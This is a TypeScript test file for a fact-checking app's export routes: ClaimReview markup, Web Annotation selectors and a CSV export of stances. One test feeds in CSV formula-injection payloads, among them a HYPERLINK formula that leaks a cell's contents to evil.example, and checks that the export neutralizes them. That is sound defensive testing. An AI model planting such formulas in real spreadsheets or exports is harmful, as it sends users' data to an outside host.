import { resolve } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { loadCorpus } from "../lib/seed/load-corpus";
import { setVerdict } from "../lib/review/verdicts";
import { codePointOffset } from "../lib/export/web-annotation";
import { STANCE_CSV_COLUMNS } from "../lib/export/stances-csv";
import { csvRows } from "../lib/import/parse";
import { createSource } from "../lib/sources/write-source";
import { createStance } from "../lib/stances/write-stance";
import { freshDatabase, type TestDb } from "./helpers/test-db";

// The export routes, on a real seeded database with two verdicts.
let t: TestDb;
let api: {
  reviews: typeof import("../app/api/export/claim-reviews/route");
  annotations: typeof import("../app/api/export/annotations/route");
  sourceAnnotations: typeof import("../app/api/sources/[id]/annotations/route");
  annotation: typeof import("../app/api/annotations/[id]/route");
  csv: typeof import("../app/api/export/stances/route");
};
const analyst = { id: "u-analyst", name: "Ann Analyst", email: "ann@test", role: "ANALYST" as const };

beforeAll(async () => {
  t = await freshDatabase();
  await loadCorpus({ db: t.db, corpusPath: resolve(import.meta.dirname, "../seeds/corpus.json") });
  await t.db.user.create({ data: analyst });
  const id = async (slug: string) => (await t.db.claim.findUniqueOrThrow({ where: { slug } })).id;
  await setVerdict(t.db, analyst, {
    claimId: await id("dprk-troops-number-about-10000"),
    rating: "CONFLICTING_EVIDENCE",
    confidence: "MEDIUM",
    rationale: "Some 10,000 against several thousand.",
  });
  await setVerdict(t.db, analyst, {
    claimId: await id("treaty-cites-un-charter-article-51"),
    rating: "TRUE",
    confidence: "HIGH",
    rationale: "Both texts quote Article 51.",
  });
  process.env.DATABASE_URL = t.url;
  api = {
    reviews: await import("../app/api/export/claim-reviews/route"),
    annotations: await import("../app/api/export/annotations/route"),
    sourceAnnotations: await import("../app/api/sources/[id]/annotations/route"),
    annotation: await import("../app/api/annotations/[id]/route"),
    csv: await import("../app/api/export/stances/route"),
  };
});
afterAll(async () => {
  const { db } = await import("../lib/db");
  await db.$disconnect();
  await t.drop();
});

const get = (path: string) => new Request(`https://corroborate.example${path}`);
const params = <P>(value: P) => ({ params: Promise.resolve(value) });

describe("ClaimReview", () => {
  it("gives every reviewed claim with the fields Google's fact-check markup requires", async () => {
    const response = await api.reviews.GET(get("/api/export/claim-reviews"));
    expect(response.headers.get("content-type")).toContain("application/ld+json");
    expect(response.headers.get("content-disposition")).toContain("attachment");
    const body = await response.json();
    expect(body["@context"]).toBe("https://schema.org");
    expect(body["@graph"]).toHaveLength(2);
    for (const review of body["@graph"]) {
      expect(review["@type"]).toBe("ClaimReview");
      expect(review.claimReviewed).toEqual(expect.any(String));
      expect(review.url).toMatch(/^https:\/\/corroborate\.example\/claims\/[a-z0-9-]+$/);
      expect(review.reviewRating).toMatchObject({ "@type": "Rating", alternateName: expect.any(String) });
      expect(review.author).toMatchObject({ "@type": "Person", name: "Ann Analyst" });
      expect(review.datePublished).toMatch(/^\d{4}-\d{2}-\d{2}$/);
      expect(review.itemReviewed["@type"]).toBe("Claim");
      for (const appearance of review.itemReviewed.appearance) {
        expect(appearance).toMatchObject({ "@type": "CreativeWork", url: expect.stringMatching(/^https?:\/\//), publisher: { "@type": "Organization" } });
      }
    }
    const troops = body["@graph"].find((r: { url: string }) => r.url.endsWith("/dprk-troops-number-about-10000"));
    expect(troops.reviewRating).toEqual({ "@type": "Rating", alternateName: "Conflicting evidence" });
    expect(troops.itemReviewed.appearance.map((a: { publisher: { name: string } }) => a.publisher.name)).toEqual([
      "NPR",
      "HP McLovincraft's blog",
      "Unidentified news website",
    ]);
    expect(troops.itemReviewed.firstAppearance).toMatchObject({ datePublished: "2024-11", publisher: { name: "NPR" } });
    const article51 = body["@graph"].find((r: { url: string }) => r.url.endsWith("/treaty-cites-un-charter-article-51"));
    expect(article51.reviewRating).toEqual({ "@type": "Rating", alternateName: "True", ratingValue: 5, bestRating: 5, worstRating: 1 });
  });
});

describe("Web Annotation", () => {
  type Selector = { type: string; exact?: string; prefix?: string; suffix?: string; start?: number; end?: number };
  type Annotation = {
    "@context": string;
    id: string;
    type: string;
    motivation: string;
    body: { type: string; purpose: string; value?: string; source?: string }[];
    target: { source: string; selector: Selector[] };
  };

  it("gives every live stance as an annotation whose selectors find its exact words in the source", async () => {
    const response = await api.annotations.GET(get("/api/export/annotations"));
    expect(response.headers.get("content-type")).toContain('profile="http://www.w3.org/ns/anno.jsonld"');
    const collection = await response.json();
    expect(collection).toMatchObject({ "@context": "http://www.w3.org/ns/anno.jsonld", type: "AnnotationCollection" });
    const live = await t.db.stance.count({ where: { retractedAt: null, claim: { retractedAt: null } } });
    expect(collection.total).toBe(live);
    const items: Annotation[] = collection.first.items;
    expect(items).toHaveLength(live);
    const texts = new Map((await t.db.source.findMany({ select: { id: true, text: true } })).map((s) => [s.id, Array.from(s.text)]));
    for (const a of items) {
      expect(a.type).toBe("Annotation");
      expect(a.motivation).toBe("assessing");
      expect(a.id).toMatch(/^https:\/\/corroborate\.example\/api\/annotations\//);
      expect(a.body[0]).toMatchObject({ type: "TextualBody", purpose: "assessing", value: expect.stringMatching(/^(Supports|Disputes|Qualifies)/) });
      const quote = a.target.selector.find((s) => s.type === "TextQuoteSelector")!;
      const position = a.target.selector.find((s) => s.type === "TextPositionSelector")!;
      const chars = texts.get(decodeURIComponent(a.target.source.split("/sources/")[1]!))!;
      expect(chars.slice(position.start, position.end).join("")).toBe(quote.exact);
      expect(chars.slice(0, position.start).join("").endsWith(quote.prefix!)).toBe(true);
      expect(chars.slice(position.end).join("").startsWith(quote.suffix!)).toBe(true);
    }
  });

  it("gives one source's annotations, resolves each annotation's id, and 404s the unknown", async () => {
    const source = "sputnik-federation-council-ratifies";
    const collection = await (await api.sourceAnnotations.GET(get(`/api/sources/${source}/annotations`), params({ id: source }))).json();
    expect(collection.total).toBe(await t.db.stance.count({ where: { sourceId: source, retractedAt: null } }));
    const first = collection.first.items[0];
    const id = first.id.split("/api/annotations/")[1];
    expect(await (await api.annotation.GET(get(`/api/annotations/${id}`), params({ id }))).json()).toEqual(first);
    expect((await api.sourceAnnotations.GET(get("/api/sources/nope/annotations"), params({ id: "nope" }))).status).toBe(404);
    expect((await api.annotation.GET(get("/api/annotations/nope"), params({ id: "nope" }))).status).toBe(404);
  });

  it("counts positions in code points, as the model requires, where Corroborate counts UTF-16 units", () => {
    const text = "𝕏 says 10,000";
    expect(text.indexOf("says")).toBe(3);
    expect(codePointOffset(text, 3)).toBe(2);
    expect(codePointOffset(text, text.length)).toBe(Array.from(text).length);
  });
});

describe("stances CSV", () => {
  it("gives one row per live stance, each quote verbatim", async () => {
    const response = await api.csv.GET(get("/api/export/stances"));
    expect(response.headers.get("content-type")).toContain("text/csv");
    const [header, ...rows] = csvRows(await response.text());
    expect(header).toEqual([...STANCE_CSV_COLUMNS]);
    expect(rows).toHaveLength(await t.db.stance.count({ where: { retractedAt: null, claim: { retractedAt: null } } }));
    const pentagon = rows.find((r) => r[0] === "dprk-troops-number-about-10000" && r[9] === "The Pentagon")!;
    expect(Object.fromEntries(header!.map((h, i) => [h, pentagon[i]]))).toMatchObject({
      position: "DISPUTES",
      mode: "REPORTED_ALLEGATION",
      quote: "several thousand DPRK troops\u00a0likely traveled to Russia earlier this year",
      source: "blog-friends-with-geopolitical-benefits",
      outlet: "HP McLovincraft's blog",
      date: "2024-12",
    });
    const stored = await t.db.stance.findMany({ where: { retractedAt: null }, select: { quote: true } });
    expect(new Set(rows.map((r) => r[4]))).toEqual(new Set(stored.map((s) => s.quote)));
  });

  it("neutralizes cells a spreadsheet would run as formulas, and gives them verbatim on request", async () => {
    const payloads = [
      '=HYPERLINK("http://evil.example/?leak="&A1,"x")',
      "+1 555 0100 was the number given",
      "-3,000 troops, said the ministry",
      "@SUM(A1:A9) of the reports",
    ];
    const text = `A hostile page.\n${payloads.join("\n")}\nThe end.`;
    const source = await createSource(t.db, analyst, {
      title: "Formula bait",
      outlet: { new: { name: "Bait Wire", kind: "BLOG" } },
      kind: "NEWS_REPORT",
      language: "en",
      text,
    });
    const topic = await t.db.topic.findFirstOrThrow();
    for (const quote of payloads) {
      await createStance(t.db, analyst, {
        sourceId: source.id,
        quote,
        claim: { new: { text: `Bait: ${quote}`, topic: topic.slug } },
        position: "SUPPORTS",
        mode: "AS_FACT",
        speaker: null,
      });
    }
    const rowsOf = async (path: string) => csvRows(await (await api.csv.GET(get(path))).text()).filter((r) => r[5] === source.id);

    const safe = await rowsOf("/api/export/stances");
    expect(safe.map((r) => r[4]).sort()).toEqual(payloads.map((p) => `'${p}`).sort());
    for (const row of safe) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);

    const verbatim = await rowsOf("/api/export/stances?verbatim=1");
    expect(verbatim.map((r) => r[4]).sort()).toEqual([...payloads].sort());
    expect((await api.csv.GET(get("/api/export/stances?verbatim=yes"))).status).toBe(400);
  });
});
